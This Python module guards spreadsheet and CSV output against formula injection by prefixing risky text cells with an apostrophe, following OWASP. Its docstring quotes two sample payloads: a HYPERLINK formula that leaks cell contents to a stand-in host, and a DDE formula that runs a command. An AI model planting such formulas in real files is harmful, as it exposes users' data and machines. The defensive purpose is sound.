"""Cell text that a spreadsheet will never run: the one guard every file we write for people uses.

Excel, LibreOffice and Google Sheets treat a cell (or a CSV field) that starts with `=`, `+`,
`-` or `@` as a formula, and a leading tab or carriage return can hide such a start. Text that came
from an uploaded report (agency names, measures, file names) must never act in the officer's
spreadsheet: `=HYPERLINK("http://evil.example/?leak="&A1)` or `=cmd|' /C notepad'!A0`. The guard is
the one OWASP recommends: such text gets a leading apostrophe, so it shows as written.

Only text is touched: numbers, dates and empty values pass unchanged (a negative number is a number).
Every writer of a CSV or workbook (download buttons, CLI `--format csv`, the backup's CSVs, the
Excel report and template) goes through `neutralise` / `neutralise_frame`; `tests/test_safe_cells.py`
walks all of them.

>>> neutralise("=1+1")
"'=1+1"
>>> neutralise("เทศบาลตำบลถาวร")
'เทศบาลตำบลถาวร'
>>> neutralise(-3)
-3
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_dangerous(value: object) -> bool:
    """True for text a spreadsheet would read as the start of a formula."""
    return isinstance(value, str) and value.startswith(DANGEROUS_STARTS)


def neutralise(value: object) -> object:
    """The value itself, except that dangerous text gets a leading apostrophe."""
    return "'" + value if isinstance(value, str) and value.startswith(DANGEROUS_STARTS) else value


def neutralise_row(values: Iterable[object]) -> list[object]:
    """One CSV record, each field guarded."""
    return [neutralise(v) for v in values]


def neutralise_frame(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of the table with every text cell guarded (numeric columns are left as they are)."""
    import pandas as pd  # not at module level: the CLI starts without pandas

    out = table.copy()
    for col in out.columns:
        series = out[col]
        if pd.api.types.is_numeric_dtype(series) and not pd.api.types.is_bool_dtype(series):
            continue
        if pd.api.types.is_datetime64_any_dtype(series):
            continue
        if series.map(is_dangerous).any():
            out[col] = series.map(neutralise)
    return out
